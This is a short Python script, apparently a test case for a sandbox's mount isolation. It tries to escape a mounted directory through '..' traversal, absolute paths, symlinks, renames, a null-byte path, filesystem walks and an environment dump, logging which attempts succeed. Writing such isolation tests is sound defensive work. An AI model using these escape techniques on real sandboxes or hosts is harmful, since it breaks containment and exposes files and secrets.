# attack: climb out of a read-write mount with .., absolute host paths, symlinks to the canary and its directory, and rename/write through them
# os: yes
# runs: 1
import os
from pathlib import Path
found = []
def attempt(label, fn):
    try:
        found.append((label, fn()))
    except Exception as e:
        found.append((label, type(e).__name__))
name = canary_path.rsplit("/", 1)[1]
wname = canary_write_path.rsplit("/", 1)[1]
attempt("dotdot", lambda: open("/mnt/../" + name).read())
attempt("dotdot2", lambda: Path("/mnt/../../..").joinpath(canary_path.lstrip("/")).read_text())
attempt("absolute", lambda: open(canary_path).read())
attempt("link", lambda: open("/mnt/link-to-canary").read())
attempt("link-dir", lambda: open("/mnt/link-to-parent/" + name).read())
attempt("list-link-dir", lambda: os.listdir("/mnt/link-to-parent"))
attempt("stat-link", lambda: os.stat("/mnt/link-to-canary").st_size)
attempt("write-link-dir", lambda: Path("/mnt/link-to-parent/" + wname).write_text("x"))
attempt("write-abs", lambda: Path(canary_write_path).write_text("x"))
attempt("write-dotdot", lambda: open("/mnt/../" + wname, "w").write("x"))
attempt("rename-out", lambda: os.rename("/mnt/data.txt", "/mnt/link-to-parent/" + wname))
attempt("rename-in", lambda: os.rename("/mnt/link-to-canary", "/mnt/stolen.txt"))
attempt("read-stolen", lambda: open("/mnt/stolen.txt").read())
attempt("mkdir-out", lambda: os.makedirs("/mnt/link-to-parent/newdir", exist_ok=True))
attempt("glob", lambda: [str(p) for p in Path("/mnt").rglob("*")])
attempt("walk", lambda: list(os.walk("/")))
attempt("environ", lambda: dict(os.environ))
attempt("null", lambda: open("/mnt/data.txt\0/../../" + name).read())
print(found)
found
